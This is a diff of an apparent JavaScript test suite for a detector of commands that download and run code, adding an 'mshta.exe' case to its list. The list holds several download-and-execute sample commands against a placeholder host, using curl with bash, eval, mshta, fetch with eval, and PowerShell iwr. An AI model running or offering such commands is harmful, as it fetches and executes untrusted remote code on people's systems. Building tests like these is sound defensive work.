@@ -43,6 +43,7 @@ describe("a command that downloads something and runs it", () => {
     "curl -fsSLo i.sh https://x.test/i.sh && bash i.sh",
     "eval ` curl -s https://x.test/i`",
     "mshta https://x.test/a.hta",
+    'mshta.exe "https://x.test/a.hta"',
     "fetch('https://x.test/a').then( eval )",
     "iwr https://x.test/a -OutFile tool; .\\tool",
     "iwr https://x.test/a `\n  -OutFile tool; .\\tool",
